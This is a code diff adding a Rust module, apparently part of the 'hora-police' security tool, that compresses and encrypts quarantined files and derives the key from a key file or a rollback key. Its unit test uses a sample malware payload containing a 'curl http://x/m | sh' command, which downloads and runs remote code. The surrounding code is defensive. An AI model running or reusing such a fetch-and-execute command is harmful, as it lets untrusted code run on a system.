@@ -0,0 +1,117 @@
+use anyhow::{Context, Result};
+use flate2::read::GzDecoder;
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use rand::RngCore;
+use ring::aead::{Aad, LessSafeKey, Nonce, UnboundKey, AES_256_GCM, NONCE_LEN};
+use ring::hkdf;
+use std::fs;
+use std::io::{Read, Write};
+use std::path::PathBuf;
+
+/// Header of a sealed quarantine archive: magic, then nonce, then ciphertext+tag
+const MAGIC: &[u8; 4] = b"HPQ1";
+
+/// Extension given to sealed quarantine files so they are never mistaken for the payload
+pub const SEALED_EXTENSION: &str = "hpq";
+
+const QUARANTINE_KEY_PATH: &str = "/etc/hora-police/keys/quarantine.key";
+
+/// AES-256-GCM key used to seal quarantined files
+#[derive(Clone)]
+pub struct QuarantineKey([u8; 32]);
+
+impl QuarantineKey {
+    /// Derive a quarantine key from other key material (e.g. the rollback key)
+    pub fn derive(master: &[u8]) -> Result<Self> {
+        let salt = hkdf::Salt::new(hkdf::HKDF_SHA256, b"hora-police-quarantine");
+        let mut key = [0u8; 32];
+        salt.extract(master)
+            .expand(&[b"quarantine-archive-v1"], hkdf::HKDF_SHA256)
+            .and_then(|okm| okm.fill(&mut key))
+            .map_err(|_| anyhow::anyhow!("Failed to derive quarantine key"))?;
+        Ok(Self(key))
+    }
+
+    /// Dedicated key from /etc/hora-police/keys/quarantine.key, else derived from the rollback key
+    pub fn load() -> Result<Self> {
+        let key_path = PathBuf::from(QUARANTINE_KEY_PATH);
+        let master = if key_path.exists() {
+            fs::read(&key_path)
+                .with_context(|| format!("Failed to read quarantine key from {:?}", key_path))?
+        } else {
+            crate::rollback::get_rollback_key()?
+        };
+        Self::derive(&master)
+    }
+
+    fn aead_key(&self) -> Result<LessSafeKey> {
+        let unbound = UnboundKey::new(&AES_256_GCM, &self.0)
+            .map_err(|_| anyhow::anyhow!("Invalid quarantine key"))?;
+        Ok(LessSafeKey::new(unbound))
+    }
+}
+
+/// Whether data is a sealed quarantine archive
+pub fn is_sealed(data: &[u8]) -> bool {
+    data.starts_with(MAGIC)
+}
+
+/// Gzip and encrypt file contents
+pub fn seal(data: &[u8], key: &QuarantineKey) -> Result<Vec<u8>> {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+    encoder.write_all(data)?;
+    let mut in_out = encoder.finish()?;
+
+    let mut nonce_bytes = [0u8; NONCE_LEN];
+    rand::thread_rng().fill_bytes(&mut nonce_bytes);
+    key.aead_key()?
+        .seal_in_place_append_tag(Nonce::assume_unique_for_key(nonce_bytes), Aad::from(MAGIC), &mut in_out)
+        .map_err(|_| anyhow::anyhow!("Failed to encrypt quarantined file"))?;
+
+    let mut sealed = Vec::with_capacity(MAGIC.len() + NONCE_LEN + in_out.len());
+    sealed.extend_from_slice(MAGIC);
+    sealed.extend_from_slice(&nonce_bytes);
+    sealed.extend_from_slice(&in_out);
+    Ok(sealed)
+}
+
+/// Decrypt and decompress a sealed archive
+pub fn open(sealed: &[u8], key: &QuarantineKey) -> Result<Vec<u8>> {
+    if !is_sealed(sealed) || sealed.len() < MAGIC.len() + NONCE_LEN {
+        return Err(anyhow::anyhow!("Not a sealed quarantine archive"));
+    }
+    let (nonce_bytes, ciphertext) = sealed[MAGIC.len()..].split_at(NONCE_LEN);
+    let nonce = Nonce::try_assume_unique_for_key(nonce_bytes)
+        .map_err(|_| anyhow::anyhow!("Invalid nonce in quarantine archive"))?;
+
+    let mut in_out = ciphertext.to_vec();
+    let compressed = key.aead_key()?
+        .open_in_place(nonce, Aad::from(MAGIC), &mut in_out)
+        .map_err(|_| anyhow::anyhow!("Failed to decrypt quarantine archive (wrong key or corrupted)"))?;
+
+    let mut data = Vec::new();
+    GzDecoder::new(&compressed[..]).read_to_end(&mut data)
+        .context("Failed to decompress quarantine archive")?;
+    Ok(data)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn seal_roundtrip_and_wrong_key() {
+        let key = QuarantineKey::derive(b"master key material").unwrap();
+        let payload = b"#!/bin/sh\ncurl http://x/m | sh\n".repeat(10);
+
+        let sealed = seal(&payload, &key).unwrap();
+        assert!(is_sealed(&sealed));
+        assert!(!sealed.windows(8).any(|w| w == b"#!/bin/s"));
+        assert_eq!(open(&sealed, &key).unwrap(), payload);
+
+        let other = QuarantineKey::derive(b"different").unwrap();
+        assert!(open(&sealed, &other).is_err());
+        assert!(open(b"plain file", &key).is_err());
+    }
+}